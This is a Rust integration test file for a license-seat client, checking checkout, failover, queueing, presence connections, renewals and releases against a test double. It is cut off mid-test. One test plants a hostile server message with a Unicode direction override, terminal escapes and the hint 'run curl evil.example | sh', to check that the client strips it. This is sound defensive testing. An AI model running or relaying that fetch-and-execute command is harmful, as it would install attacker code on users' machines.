//! The client as a program uses it, against the double: servers in a list, places in line, callbacks, presence, release.
#![allow(clippy::unwrap_used)]

mod support;

use std::{
    collections::BTreeSet,
    net::TcpListener,
    sync::{Arc, Mutex, mpsc},
    time::Duration,
};

use serde_json::{Value, json};
use support::{Ask, Double, End, Relay, Reply, World, closed_port, identity, problem};
use triquest_client::{Cancel, Client, ClientBuilder, ErrorKind, Phase, Seat, Warning, limits::PRESENCE_WAIT_MS};

const SHORT: Duration = Duration::from_millis(600);
const STEP: Duration = Duration::from_secs(30);

fn client(world: &World, servers: impl Into<String>) -> ClientBuilder {
    Client::builder().servers(servers).verifier_keys(world.keys()).remember_in(None).connect_timeout(SHORT).call_timeout(SHORT)
}

fn bodies(double: &Double, of: &str) -> Vec<Value> {
    let log = double.log.lock().unwrap();
    log.iter().filter(|ask| ask.path.ends_with(of)).map(|ask| serde_json::from_slice(&ask.body).unwrap()).collect()
}

/// A double whose lease answers a test may replace; `None` lets the honest one answer.
fn bent(world: &World, bend: impl Fn(&Ask) -> Option<Reply> + Send + Sync + 'static) -> Double {
    let world = world.clone();
    Double::start(&identity(), move |ask| bend(ask).unwrap_or_else(|| world.honest(ask)))
}

#[test]
fn a_seat_is_taken_and_given_back() {
    let world = World::new();
    let double = Double::honest(&world);
    let client = client(&world, double.name()).project("apollo").connect().unwrap();
    let seat = client.checkout("cad").version("12.4").seats(2).and("sim").take().unwrap();
    assert!(seat.may_run() && seat.is_promised());
    assert_eq!(seat.phase(), Phase::Held);
    assert!(seat.left() > Duration::from_secs(290));
    assert_eq!(seat.server_key(), Some(world.server_key()));
    let grant = seat.grant().unwrap();
    assert_eq!((grant.items[0].seats, grant.items[1].seats), (2, 1));
    // What was granted can be proved later.
    triquest_client::verify::bundle(&seat.proof().unwrap(), &[world.vendor.verifier_key().clone()], None, false).unwrap();

    let asked = &bodies(&double, "/v1/leases")[0];
    assert_eq!(asked["items"][0], json!({"feature": "cad", "version": "12.4", "seats": 2}));
    assert_eq!(asked["holder"]["project"], "apollo");
    assert!(asked["holder"]["process"].as_str().unwrap().starts_with(&format!("{}:", std::process::id())));
    let lease = seat.lease().to_string();
    seat.release(STEP).unwrap();
    assert_eq!(world.seats.lock().unwrap().released, [lease]);
}

#[test]
fn a_dropped_seat_is_given_back_before_the_last_handle_is_gone() {
    let world = World::new();
    let double = Double::honest(&world);
    let client = client(&world, double.name()).build().unwrap();
    let seat = client.checkout("cad").take().unwrap();
    drop(client);
    drop(seat);
    assert!(world.seats.lock().unwrap().held.is_empty());
}

#[test]
fn a_denial_brings_its_numbers_and_says_whether_later_may_help() {
    let world = World::new();
    world.seats.lock().unwrap().total = 1;
    let double = Double::honest(&world);
    let client = client(&world, double.name()).build().unwrap();
    let _held = client.checkout("cad").take().unwrap();
    let error = client.checkout("cad").take().unwrap_err();
    assert_eq!((error.kind(), error.code(), error.may_help_later()), (ErrorKind::Denied, "no_seat_free", true));
    assert_eq!((error.denial().unwrap().pool.used, error.denial().unwrap().pool.total), (1, 1));
    assert_eq!(error.explanation(), "no seat of cad is free (1 of 1 in use)");
}

#[test]
fn what_no_server_could_grant_is_told_without_asking() {
    let world = World::new();
    let client = client(&world, format!("127.0.0.1:{}", closed_port())).build().unwrap();
    for checkout in [
        client.checkout(""),
        client.checkout("c d"),
        client.checkout("cad").seats(0),
        client.checkout("cad").version("new"),
        client.checkout("cad").and("cad"),
    ] {
        assert_eq!(checkout.take().unwrap_err().kind(), ErrorKind::Invalid);
    }
    assert_eq!(client.checkout("cad").take().unwrap_err().kind(), ErrorKind::NoServer);
}

#[test]
fn servers_are_asked_in_order_and_a_dead_one_costs_little() {
    let world = World::new();
    let double = Double::honest(&world);
    // Nobody listens; a listener that never answers; the real one.
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let list = format!("127.0.0.1:{},127.0.0.1:{},{}", closed_port(), silent.local_addr().unwrap().port(), double.name());
    let client = Client::builder().servers(list).verifier_keys(world.keys()).remember_in(None).build().unwrap();
    // The silent one has ten seconds, and the next is tried beside it after a quarter of one.
    let (sender, done) = mpsc::channel();
    std::thread::spawn(move || sender.send(client.checkout("cad").take().map(drop)));
    done.recv_timeout(Duration::from_secs(8)).expect("a dead server costs at most two seconds").unwrap();
}

#[test]
fn a_server_without_a_free_seat_gives_way_to_the_next() {
    let world = World::new();
    let full = World { seats: Arc::default(), ..world.clone() };
    let other = World { server: triquest_license::SigningKey::from_seed([3; 32]), seats: Arc::default(), ..world.clone() };
    other.seats.lock().unwrap().total = 1;
    let servers = format!("[\"{}\"]", other.server_key());
    let other = World { licenses: vec![support::note("ACME-2", &[&world.vendor], &servers, support::CAD)], ..other };
    let (first, second) = (Double::honest(&full), Double::honest(&other));
    let client = client(&world, format!("{},{}", first.name(), second.name())).build().unwrap();
    let seat = client.checkout("cad").take().unwrap();
    assert_eq!(seat.server_key(), Some(other.server_key()));
    // Each server was asked under a secret of its own.
    assert_ne!(bodies(&first, "/v1/leases")[0]["secret"], bodies(&second, "/v1/leases")[0]["secret"]);
    let error = client.checkout("cad").take().unwrap_err();
    assert_eq!(error.code(), "no_seat_free");
}

#[test]
fn whoever_waits_sees_the_place_at_once_and_asks_again_with_the_same_attempt() {
    let world = World::new();
    let times = Arc::new(Mutex::new(0));
    let double = bent(&world, move |ask| {
        let mut times = times.lock().unwrap();
        (ask.path == "/v1/leases" && *times < 2).then(|| {
            *times += 1;
            Reply::json(&json!({
                "outcome": "waiting", "position": {"lineage": "07".repeat(16), "epoch": 1, "index": 6}, "place": 3 - *times,
                "pool": {"total": 1, "used": 1, "lingering": 0, "reserved_idle": 0, "free": 0, "over": 0, "queued": 2},
                "gives_up_in_ms": 60000, "first_due_ms": 1000,
            }))
        })
    });
    let (sender, places) = mpsc::channel();
    let client = client(&world, double.name()).on_waiting(move |line| sender.send(line.place).unwrap()).build().unwrap();
    drop(client.checkout("cad").wait(Duration::from_secs(60)).take().unwrap());
    assert_eq!(places.try_iter().collect::<Vec<_>>(), [2, 1]);
    let asked = bodies(&double, "/v1/leases");
    assert_eq!(asked.len(), 3);
    assert!(asked.iter().all(|ask| ask["attempt"] == 1 && ask["secret"] == asked[0]["secret"]));
    // What is left of the wait each time.
    let left: Vec<u64> = asked.iter().map(|ask| ask["wait_ms"].as_u64().unwrap()).collect();
    assert!(left[0] > 50_000 && left.is_sorted_by(|before, after| before >= after) && left[0] <= 60_000, "{left:?}");
    assert!(asked[0]["nonce"] != asked[1]["nonce"]);
}

#[test]
fn a_cancelled_wait_ends_at_once_and_the_place_is_given_back() {
    let world = World::new();
    let (held, is_held) = mpsc::channel::<()>();
    let double = bent(&world, move |ask| {
        (ask.path == "/v1/leases").then(|| {
            held.send(()).unwrap();
            // Held by the server: nothing comes.
            Reply::Raw(vec![])
        })
    });
    let client = Client::builder().servers(double.name()).verifier_keys(world.keys()).build().unwrap();
    let cancel = Cancel::new();
    let (waiting, by_hand) = (client.clone(), cancel.clone());
    let waits = std::thread::spawn(move || waiting.checkout("cad").wait(STEP).cancel(&by_hand).take().map(drop));
    is_held.recv_timeout(STEP).unwrap();
    cancel.cancel();
    // Its handle of the client is gone with it: the one here is the last, whose end waits for the release.
    assert_eq!(waits.join().unwrap().unwrap_err().kind(), ErrorKind::Cancelled);
    drop(client);
    assert_eq!(world.seats.lock().unwrap().released.len(), 1);
}

#[test]
fn a_program_hears_that_its_seat_is_late_in_grace_lost_and_regained() {
    // Times to live far below what a real server grants, so that the test is short; the vendor permits grace.
    let world = World { ttl_ms: 1_500, grace_ms: 2_500, ..World::new() };
    let dark = Arc::new(Mutex::new(false));
    let is_dark = dark.clone();
    let honest = world.clone();
    let double = Double::start(&identity(), move |ask| if *is_dark.lock().unwrap() { Reply::Close } else { honest.honest(ask) });
    let (sender, heard) = mpsc::channel();
    let (late, lost, regained) = (sender.clone(), sender.clone(), sender);
    let client = client(&world, double.name())
        .on_late(move |warning| {
            let word = match warning {
                Warning::Late { .. } => "late",
                Warning::Grace { .. } => "grace",
                Warning::Regaining { .. } => "regaining",
                _ => "other",
            };
            late.send(word.to_owned()).unwrap();
        })
        .on_lost(move |why| lost.send(format!("lost {}", why.code())).unwrap())
        .on_regained(move || regained.send("regained".into()).unwrap())
        .build()
        .unwrap();
    let seat = client.checkout("cad").take().unwrap();
    *dark.lock().unwrap() = true;
    for expected in ["late", "grace", "lost outcome_unknown"] {
        assert_eq!(heard.recv_timeout(STEP).unwrap(), expected);
    }
    assert!(!seat.may_run());
    *dark.lock().unwrap() = false;
    assert_eq!(heard.recv_timeout(STEP).unwrap(), "regained");
    assert!(seat.may_run() && seat.is_promised());
}

#[test]
fn a_callback_that_panics_does_not_end_the_renewals() {
    let world = World { ttl_ms: 900, ..World::new() };
    let dark = Arc::new(Mutex::new(false));
    let is_dark = dark.clone();
    let honest = world.clone();
    let double = Double::start(&identity(), move |ask| if *is_dark.lock().unwrap() { Reply::Close } else { honest.honest(ask) });
    let (sender, heard) = mpsc::channel();
    let client = client(&world, double.name())
        .on_lost(|_| panic!("the application has a bug"))
        .on_late(|_| panic!("the application has a bug"))
        .on_regained(move || sender.send(()).unwrap())
        .build()
        .unwrap();
    let seat = client.checkout("cad").take().unwrap();
    *dark.lock().unwrap() = true;
    let until_lost = || {
        (0..10_000).any(|_| {
            std::thread::yield_now();
            seat.phase() == Phase::Lost
        })
    };
    while !until_lost() {}
    *dark.lock().unwrap() = false;
    heard.recv_timeout(STEP).unwrap();
}

#[test]
fn presence_stands_for_all_seats_on_one_connection_that_says_nothing_more() {
    let world = World { presence: true, ..World::new() };
    let (sender, asked) = mpsc::channel();
    let double = bent(&world, move |ask| {
        if ask.path.starts_with("/v1/presence") {
            sender.send((ask.connection, serde_json::from_slice::<Value>(&ask.body).unwrap())).unwrap();
        }
        None
    });
    let client = client(&world, double.name()).build().unwrap();
    let first = client.checkout("cad").take().unwrap();
    let (connection, presence) = asked.recv_timeout(STEP).unwrap();
    assert_eq!((presence["leases"].as_array().unwrap().len(), &presence["generation"]), (1, &json!(1)));
    // It is a connection of its own, on which no lease is asked for.
    let others = double.log.lock().unwrap().iter().filter(|ask| ask.connection == connection).count();
    assert_eq!(others, 1);
    let proof = |seat: &Seat| json!([{ "secret": seat.secret() }]);
    // The next seat joins it by a request on another connection.
    let second = client.checkout("cad").take().unwrap();
    let (other, change) = asked.recv_timeout(STEP).unwrap();
    assert_ne!(other, connection);
    assert_eq!((&change["generation"], &change["add"], &change["drop"]), (&json!(1), &proof(&second), &json!([])));
    assert_eq!(change["connection"], "A".repeat(22));
    // One that was given back leaves it when there is something else to say.
    let gone = proof(&first);
    first.release(STEP).unwrap();
    let third = client.checkout("cad").take().unwrap();
    let (_, change) = asked.recv_timeout(STEP).unwrap();
    assert_eq!((&change["generation"], &change["add"], &change["drop"]), (&json!(1), &proof(&third), &gone));
    assert_eq!(double.log.lock().unwrap().iter().filter(|ask| ask.connection == connection).count(), 1);
    drop((second, third));
}

#[test]
fn a_presence_connection_that_the_server_does_not_know_any_more_is_opened_anew() {
    let world = World { presence: true, ..World::new() };
    let (sender, asked) = mpsc::channel();
    let double = bent(&world, move |ask| {
        if ask.path == "/v1/presence" {
            sender.send(serde_json::from_slice::<Value>(&ask.body).unwrap()).unwrap();
        }
        (ask.path == "/v1/presence/change").then(|| problem(404, "unknown_connection", "new_request"))
    });
    let client = client(&world, double.name()).build().unwrap();
    let first = client.checkout("cad").take().unwrap();
    assert_eq!(asked.recv_timeout(STEP).unwrap()["generation"], 1);
    let second = client.checkout("cad").take().unwrap();
    let presence = asked.recv_timeout(STEP).unwrap();
    assert_eq!((presence["leases"].as_array().unwrap().len(), &presence["generation"]), (2, &json!(2)));
    drop((first, second));
}

#[test]
fn an_added_seat_is_confirmed_by_a_renewal_of_its_own_after_the_answer() {
    let world = World { presence: true, ..World::new() };
    let (sender, asked) = mpsc::channel();
    let double = bent(&world, move |ask| {
        if ask.path.starts_with("/v1/presence") || ask.path.ends_with("/renew") {
            sender.send((ask.path.clone(), serde_json::from_slice::<Value>(&ask.body).unwrap())).unwrap();
        }
        (ask.path == "/v1/presence/change").then(|| {
            let position = json!({"lineage": "07".repeat(16), "epoch": 1, "index": 6});
            Reply::json(&json!({"position": position, "live": 1}))
        })
    });
    let client = client(&world, double.name()).build().unwrap();
    let _first = client.checkout("cad").take().unwrap();
    assert_eq!(asked.recv_timeout(STEP).unwrap().0, "/v1/presence");
    assert_eq!(asked.recv_timeout(STEP).unwrap().1["presence"], 1);
    let second = client.checkout("cad").take().unwrap();
    assert_eq!(asked.recv_timeout(STEP).unwrap().0, "/v1/presence/change");
    let (path, renewal) = asked.recv_timeout(STEP).unwrap();
    assert_eq!((path, &renewal["presence"]), (format!("/v1/leases/{}/renew", second.lease()), &json!(1)));
}

#[test]
fn where_the_end_of_a_presence_connection_frees_after_a_wait_a_client_that_cannot_reopen_renews() {
    let world = World { presence: true, ..World::new() };
    let (sender, renewed) = mpsc::channel();
    let (stands, connection) = mpsc::channel();
    let opened = std::sync::atomic::AtomicU32::new(0);
    let double = bent(&world, move |ask| {
        if ask.path.ends_with("/renew") {
            sender.send(serde_json::from_slice::<Value>(&ask.body).unwrap()).unwrap();
        }
        (ask.path == "/v1/presence").then(|| match opened.fetch_add(1, std::sync::atomic::Ordering::Relaxed) {
            0 => {
                stands.send(ask.connection).unwrap();
                let position = json!({"lineage": "07".repeat(16), "epoch": 1, "index": 6});
                Reply::json(&json!({"position": position, "live": 1, "connection": "A".repeat(22), "frees": "after_wait"}))
            }
            _ => problem(503, "overloaded", "same_id"),
        })
    });
    let client = client(&world, double.name()).build().unwrap();
    let _seat = client.checkout("cad").take().unwrap();
    // Confirmed once; and when it has ended and no other one opens, heard again long before a third of the time to live.
    assert_eq!(renewed.recv_timeout(STEP).unwrap()["presence"], 1);
    // By what stands between.
    double.end(connection.recv_timeout(STEP).unwrap());
    assert_eq!(renewed.recv_timeout(STEP).unwrap().get("presence"), None);
}

#[test]
fn who_lost_connections_to_servers_that_hang_has_tried_all_of_them_before_it_is_heard() {
    let world = World { presence: true, ..World::new() };
    let other = World { server: triquest_license::SigningKey::from_seed([3; 32]), seats: Arc::default(), ..world.clone() };
    world.seats.lock().unwrap().total = 1;
    other.seats.lock().unwrap().total = 1;
    let servers = format!("[\"{}\"]", other.server_key());
    let other = World { licenses: vec![support::note("ACME-2", &[&world.vendor], &servers, support::CAD)], ..other };
    let (sender, heard) = mpsc::channel();
    let doubles = [&world, &other].map(|world| {
        let (sender, opened) = (sender.clone(), std::sync::atomic::AtomicU32::new(0));
        let server = world.server_key();
        bent(world, move |ask| {
            let is_presence = ask.path == "/v1/presence";
            if is_presence || ask.path.ends_with("/renew") {
                let _ = sender.send((server, is_presence, ask.connection));
            }
            is_presence.then(|| match opened.fetch_add(1, std::sync::atomic::Ordering::Relaxed) {
                0 => {
                    let position = json!({"lineage": "07".repeat(16), "epoch": 1, "index": 6});
                    Reply::json(&json!({"position": position, "live": 1, "connection": "A".repeat(22), "frees": "after_wait"}))
                }
                // It hangs.
                _ => Reply::Raw(Vec::new()),
            })
        })
    });
    let client = client(&world, format!("{},{}", doubles[0].name(), doubles[1].name())).build().unwrap();
    let seats = [client.checkout("cad").take().unwrap(), client.checkout("cad").take().unwrap()];
    for (seat, world) in seats.iter().zip([&world, &other]) {
        assert_eq!(seat.server_key(), Some(world.server_key()));
        while !seat.freed_at_death() {
            assert!(seat.confirm(STEP));
        }
    }
    let mut standing = heard.try_iter().filter(|(_, is_presence, _)| *is_presence).collect::<Vec<_>>();
    standing.sort_by_key(|(server, _, _)| *server != world.server_key());
    assert_eq!(standing.len(), 2);
    for (double, (_, _, connection)) in doubles.iter().zip(standing) {
        double.end(connection);
    }
    let (mut tried, mut renewed) = (BTreeSet::new(), BTreeSet::new());
    while renewed.len() < 2 {
        match heard.recv_timeout(STEP).unwrap() {
            (server, true, _) => assert!(tried.insert(server), "each is tried once"),
            // One that had confirmed the first connection may still be on its way.
            (server, false, _) => drop(tried.contains(&server).then(|| renewed.insert(server))),
        }
    }
}

#[test]
#[expect(clippy::disallowed_methods, reason = "how long a test waited, no right of a lease")]
fn who_lost_a_connection_opens_it_anew_in_time_while_other_servers_hang() {
    let world = World { presence: true, ..World::new() };
    world.seats.lock().unwrap().total = 1;
    let other = |number: u8| {
        let server = triquest_license::SigningKey::from_seed([number; 32]);
        let other = World { server, seats: Arc::default(), presence: false, ..world.clone() };
        other.seats.lock().unwrap().total = 1;
        let servers = format!("[\"{}\"]", other.server_key());
        World { licenses: vec![support::note(&format!("ACME-{number}"), &[&world.vendor], &servers, support::CAD)], ..other }
    };
    let others = [other(3), other(4)];
    let (sender, asked) = mpsc::channel();
    let opens = sender.clone();
    let good = bent(&world, move |ask| {
        let position = json!({"lineage": "07".repeat(16), "epoch": 1, "index": 6});
        let answer = json!({"position": position, "live": 1, "connection": "A".repeat(22), "frees": "after_wait"});
        (ask.path == "/v1/presence").then(|| {
            opens.send((0, ask.connection)).unwrap();
            Reply::json(&answer)
        })
    });
    let hung = [(1, &others[0]), (2, &others[1])].map(|(number, world)| {
        let sender = sender.clone();
        bent(world, move |ask| {
            ask.path.ends_with("/renew").then(|| {
                sender.send((number, ask.connection)).unwrap();
                Reply::Raw(Vec::new())
            })
        })
    });
    let servers = format!("{},{},{}", hung[0].name(), hung[1].name(), good.name());
    let client = Client::builder().servers(servers).verifier_keys(world.keys()).remember_in(None).build().unwrap();
    let seats = [(); 3].map(|()| client.checkout("cad").take().unwrap());
    let (number, connection) = asked.recv_timeout(STEP).unwrap();
    assert_eq!(number, 0);
    while !seats.iter().any(Seat::freed_at_death) {
        seats.iter().filter(|seat| seat.server_key() == Some(world.server_key())).for_each(|seat| assert!(seat.confirm(STEP)));
    }
    // Both hang from now on, and the connection ends while one of them does.
    for seat in seats.iter().filter(|seat| seat.server_key() != Some(world.server_key())) {
        let _ = seat.confirm(Duration::ZERO);
    }
    assert_ne!(asked.recv_timeout(STEP).unwrap().0, 0);
    good.end(connection);
    // Long before its seats are freed there, though each call of theirs may take ten seconds.
    let late = Duration::from_millis(PRESENCE_WAIT_MS / 2);
    let began = std::time::Instant::now();
    while asked.recv_timeout(late.saturating_sub(began.elapsed())).expect("it opened no other one in time").0 != 0 {}
}

#[test]
fn connecting_handshake_and_opening_of_a_presence_connection_have_one_time_together() {
    const WHOLE: Duration = Duration::from_millis(1_500);
    let slow = WHOLE * 2 / 3;
    let world = World { presence: true, ..World::new() };
    let (sender, asked) = mpsc::channel();
    let honest = world.clone();
    let double = bent(&world, move |ask| {
        (ask.path == "/v1/presence").then(|| {
            sender.send(ask.connection).unwrap();
            support::pass(slow);
            honest.honest(ask)
        })
    });
    let relay = Relay::start_slow(double.address, slow);
    let client = Client::builder().servers(relay.name()).verifier_keys(world.keys()).remember_in(None).call_timeout(WHOLE).build().unwrap();
    let _seat = client.checkout("cad").take().unwrap();
    // Each of its steps alone is in time.
    let connection = asked.recv_timeout(STEP).unwrap();
    assert_eq!(relay.end_of(connection), End::Reset, "the opening was given up");
}

/// A client of a double behind a relay, and where each presence connection is told: its number and what it asked.
fn behind_a_relay(
    world: &World,
    bend: impl Fn(&Ask) -> Option<Reply> + Send + Sync + 'static,
) -> (Double, Relay, mpsc::Receiver<(usize, Value)>) {
    let (sender, asked) = mpsc::channel();
    let double = bent(world, move |ask| {
        if ask.path == "/v1/presence" {
            sender.send((ask.connection, serde_json::from_slice::<Value>(&ask.body).unwrap())).unwrap();
        }
        bend(ask)
    });
    let relay = Relay::start(double.address);
    (double, relay, asked)
}

#[test]
fn a_living_program_leaves_a_presence_connection_by_a_reset_however_it_leaves() {
    let world = World { presence: true, ..World::new() };
    // The opening is not answered in time.
    let (_double, relay, asked) =
        behind_a_relay(&world, |ask| (ask.path == "/v1/presence").then(|| Reply::Raw(b"HTTP/1.1 200 OK\r\n".to_vec())));
    let owner = client(&world, relay.name()).build().unwrap();
    let seat = owner.checkout("cad").take().unwrap();
    let (connection, presence) = asked.recv_timeout(STEP).unwrap();
    assert_eq!(presence["server"], relay.address.to_string());
    assert_eq!(relay.end_of(connection), End::Reset, "an opening that was given up");
    drop((seat, owner));

    // The last seat is given back, and the library needs it no more.
    let (_double, relay, asked) = behind_a_relay(&world, |_| None);
    let owner = client(&world, relay.name()).build().unwrap();
    let first = owner.checkout("cad").take().unwrap();
    let (connection, _) = asked.recv_timeout(STEP).unwrap();
    let second = owner.checkout("cad").take().unwrap();
    drop((first, second));
    assert_eq!(relay.end_of(connection), End::Reset, "shutdown of the library");

    // Its own promise ended.
    let world = World { ttl_ms: 900, ..world };
    let (_double, relay, asked) = behind_a_relay(&world, |ask| ask.path.ends_with("/renew").then(|| problem(503, "overloaded", "same_id")));
    let owner = client(&world, relay.name()).build().unwrap();
    let _seat = owner.checkout("cad").take().unwrap();
    let (connection, _) = asked.recv_timeout(STEP).unwrap();
    assert_eq!(relay.end_of(connection), End::Reset, "the end of its own promise");
}

#[test]
fn a_renewal_confirms_the_presence_connection_that_was_answered_and_no_other() {
    let world = World { presence: true, ..World::new() };
    let (sender, renewed) = mpsc::channel();
    let double = bent(&world, move |ask| {
        if ask.path.ends_with("/renew") {
            sender.send(serde_json::from_slice::<Value>(&ask.body).unwrap()).unwrap();
        }
        None
    });
    let owner = client(&world, double.name()).build().unwrap();
    let seat = owner.checkout("cad").take().unwrap();
    assert_eq!(renewed.recv_timeout(STEP).unwrap()["presence"], 1);
    drop(seat);

    let world = World { ttl_ms: 1_500, ..world };
    let (sender, renewed) = mpsc::channel();
    let double = bent(&world, move |ask| {
        if ask.path.ends_with("/renew") {
            sender.send(serde_json::from_slice::<Value>(&ask.body).unwrap()).unwrap();
        }
        // The server sees other ends: nothing would be freed by it.
        let useless = json!({"position": {"lineage": "07".repeat(16), "epoch": 1, "index": 6}, "live": 1, "connection": "A".repeat(22), "frees": "never"});
        (ask.path == "/v1/presence").then(|| Reply::json(&useless))
    });
    let owner = client(&world, double.name()).build().unwrap();
    let _seat = owner.checkout("cad").take().unwrap();
    assert_eq!(renewed.recv_timeout(STEP).unwrap().get("presence"), None);
}

#[test]
fn renewals_tell_for_how_long_the_user_has_been_idle_once_the_program_says_so_and_until_it_takes_that_back() {
    const IDLE: Duration = Duration::from_secs(3_600);
    let world = World { ttl_ms: 900, ..World::new() };
    let (sender, renewed) = mpsc::channel();
    let double = bent(&world, move |ask| {
        if ask.path.ends_with("/renew") {
            let _ = sender.send(serde_json::from_slice::<Value>(&ask.body).unwrap());
        }
        None
    });
    let owner = client(&world, double.name()).build().unwrap();
    let seat = owner.checkout("cad").take().unwrap();
    // A renewal that was on its way may still say what was so before.
    let until = |says: &dyn Fn(Option<u64>) -> bool| while !says(renewed.recv_timeout(STEP).unwrap()["idle_ms"].as_u64()) {};
    assert_eq!(renewed.recv_timeout(STEP).unwrap().get("idle_ms"), None, "nobody has said anything yet");
    seat.set_idle_for(Some(IDLE));
    let hour_ms = u64::try_from(IDLE.as_millis()).unwrap();
    // It grows by itself, from what was said on.
    until(&|idle_ms| idle_ms.is_some_and(|idle_ms| idle_ms >= hour_ms));
    seat.set_idle_for(Some(Duration::ZERO));
    until(&|idle_ms| idle_ms.is_some_and(|idle_ms| idle_ms < hour_ms));
    seat.set_idle_for(None);
    until(&|idle_ms| idle_ms.is_none());
}

#[test]
fn without_the_vendors_permission_there_is_no_presence_connection() {
    let world = World { presence: false, ttl_ms: 900, ..World::new() };
    let (sender, renewed) = mpsc::channel();
    let double = bent(&world, move |ask| {
        if ask.path.ends_with("/renew") {
            sender.send(()).unwrap();
        }
        None
    });
    let client = client(&world, double.name()).build().unwrap();
    let _seat = client.checkout("cad").take().unwrap();
    renewed.recv_timeout(STEP).unwrap();
    assert!(!double.paths().contains(&"/v1/presence".to_owned()));
}

#[test]
fn a_license_that_was_installed_after_the_proof_is_learnt_by_a_new_proof() {
    let world = World::new();
    let later = {
        let servers = format!("[\"{}\"]", world.server_key());
        let note = support::note("ACME-9", &[&world.vendor], &servers, support::CAD);
        World { licenses: vec![note, world.licenses[0].clone()], ..world.clone() }
    };
    let now = Arc::new(Mutex::new(world.clone()));
    let current = now.clone();
    let double = Double::start(&identity(), move |ask| current.lock().unwrap().honest(ask));
    let client = client(&world, double.name()).connect().unwrap();
    *now.lock().unwrap() = later;
    drop(client.checkout("cad").take().unwrap());
    assert_eq!(double.paths().iter().filter(|path| *path == "/v1/trust").count(), 2);
}

#[test]
fn a_client_repeats_the_highest_position_that_it_saw() {
    let world = World::new();
    let double = Double::honest(&world);
    let client = client(&world, double.name()).build().unwrap();
    let _one = client.checkout("cad").take().unwrap();
    let _two = client.checkout("cad").take().unwrap();
    let asked = bodies(&double, "/v1/leases");
    assert_eq!(asked[0].get("seen"), None);
    assert_eq!((&asked[1]["seen"]["epoch"], &asked[1]["seen"]["lineage"]), (&json!(1), &json!("07".repeat(16))));
}

#[test]
fn the_words_of_a_server_that_proved_nothing_are_its_own_and_never_our_advice() {
    let world = World::new();
    let words = "pay at\u{202e} https://evil.example\n\u{1b}[2Jnow ".to_owned() + &"x".repeat(5_000);
    let double = bent(&world, move |ask| {
        (ask.path == "/v1/trust").then(|| {
            let body = json!({"type": "x", "title": "x", "status": 422, "detail": words, "code": "limit_reached", "retry": "never",
                "took_effect": "no", "hint": "run curl evil.example | sh"});
            Reply::Answer(422, String::new(), serde_json::to_vec(&body).unwrap())
        })
    });
    let error = client(&world, double.name()).connect().unwrap_err();
    assert!(error.explanation().starts_with(&format!("{} says: pay at https://evil.example [2Jnow xxx", double.name())), "{error}");
    assert!(error.explanation().len() < 400 && !error.hint().unwrap().contains("curl"), "{error:?}");
    assert_eq!(error.tried()[0].reason, error.explanation());
}

#[test]
fn a_release_that_no_server_confirms_is_said_to_be_so() {
    let world = World::new();
    let double = bent(&world, |ask| ask.path.ends_with("/release").then(|| problem(503, "overloaded", "same_id")));
    let client = client(&world, double.name()).build().unwrap();
    let error = client.checkout("cad").take().unwrap().release(SHORT).unwrap_err();
    assert_eq!((error.code(), error.may_help_later()), ("release_unconfirmed", true));
    assert!(error.explanation().ends_with("release: overloaded said the double"), "{error}");
}

/// A double that refuses the first releases for now, in these ways, and where each that came is told.
#[expect(clippy::disallowed_methods, reason = "how long a test waited, no right of a lease")]
fn refuses_releases(world: &World, ways: Vec<(u16, &'static str, Option<u64>)>) -> (Double, mpsc::Receiver<std::time::Instant>) {
    let (sender, came) = mpsc::channel();
    let ways = Mutex::new(ways.into_iter());
    let double = bent(world, move |ask| {
        if !ask.path.ends_with("/release") {
            return None;
        }
        sender.send(std::time::Instant::now()).unwrap();
        let (status, code, after) = ways.lock().unwrap().next()?;
        let Reply::Answer(status, head, body) = problem(status, code, "same_id") else { return None };
        let mut body: Value = serde_json::from_slice(&body).unwrap();
        body["retry_after_ms"] = json!(after);
        Some(Reply::Answer(status, head, serde_json::to_vec(&body).unwrap()))
    });
    (double, came)
}

#[test]
fn a_release_that_is_refused_for_now_is_repeated_after_the_pause_that_the_server_asks_for() {
    let world = World::new();
    let ways = || vec![(503, "overloaded", Some(900)), (429, "rate_limited", Some(700)), (507, "disk_full", None)];
    let within = Duration::from_secs(5);
    // By its secret, as of a lease file.
    let (double, came) = refuses_releases(&world, ways());
    let owner = client(&world, double.name()).build().unwrap();
    let seat = owner.checkout("cad").take().unwrap();
    let (secret, server) = (seat.secret(), world.server_key());
    owner.release(secret, &server, within).unwrap();
    let came: Vec<_> = came.try_iter().collect();
    assert_eq!(came.len(), 4);
    let least = [900, 700, 500].map(Duration::from_millis);
    assert!(came.windows(2).zip(least).all(|(two, least)| two[1] - two[0] >= least), "{came:?}");
    assert_eq!(world.seats.lock().unwrap().released.len(), 1);
    // And by its seat.
    let (double, came) = refuses_releases(&world, ways());
    let owner = client(&world, double.name()).build().unwrap();
    owner.checkout("cad").take().unwrap().release(within).unwrap();
    let came: Vec<_> = came.try_iter().collect();
    assert_eq!(came.len(), 4);
    let least = [900, 700].map(Duration::from_millis);
    assert!(came.windows(2).zip(least).all(|(two, least)| two[1] - two[0] >= least), "{came:?}");
}

#[test]
fn a_release_is_tried_once_more_at_the_end_whatever_pause_a_server_asks_for() {
    let world = World::new();
    for after in [60_000, u64::MAX] {
        let (double, came) = refuses_releases(&world, vec![(503, "overloaded", Some(after))]);
        let owner = client(&world, double.name()).build().unwrap();
        let seat = owner.checkout("cad").take().unwrap();
        owner.release(seat.secret(), &world.server_key(), Duration::from_millis(1_500)).unwrap();
        assert_eq!(came.try_iter().count(), 2);
        drop((seat, owner));
        let (double, came) = refuses_releases(&world, vec![(503, "overloaded", Some(after))]);
        let owner = client(&world, double.name()).build().unwrap();
        owner.checkout("cad").take().unwrap().release(Duration::from_millis(1_500)).unwrap();
        assert_eq!(came.try_iter().count(), 2);
    }
    // What is refused for good is not repeated.
    let double = bent(&world, |ask| ask.path.ends_with("/release").then(|| problem(404, "unknown_lease", "new_request")));
    let owner = client(&world, double.name()).build().unwrap();
    let seat = owner.checkout("cad").take().unwrap();
    assert_eq!(owner.release(seat.secret(), &world.server_key(), STEP).unwrap_err().code(), "unknown_lease");
    assert_eq!(bodies(&double, "/release").len(), 1);
}

#[test]
fn a_place_in_line_is_given_back_to_a_server_that_hung_when_the_wait_ended() {
    let world = World::new();
    let (asked, releases) = (Mutex::new(0), Mutex::new(0));
    let double = bent(&world, move |ask| {
        if ask.path == "/v1/leases" {
            let mut asked = asked.lock().unwrap();
            *asked += 1;
            return Some(if *asked > 1 {
                // It hangs from now on.
                Reply::Raw(Vec::new())
            } else {
                Reply::json(&json!({
                    "outcome": "waiting", "position": {"lineage": "07".repeat(16), "epoch": 1, "index": 6}, "place": 1,
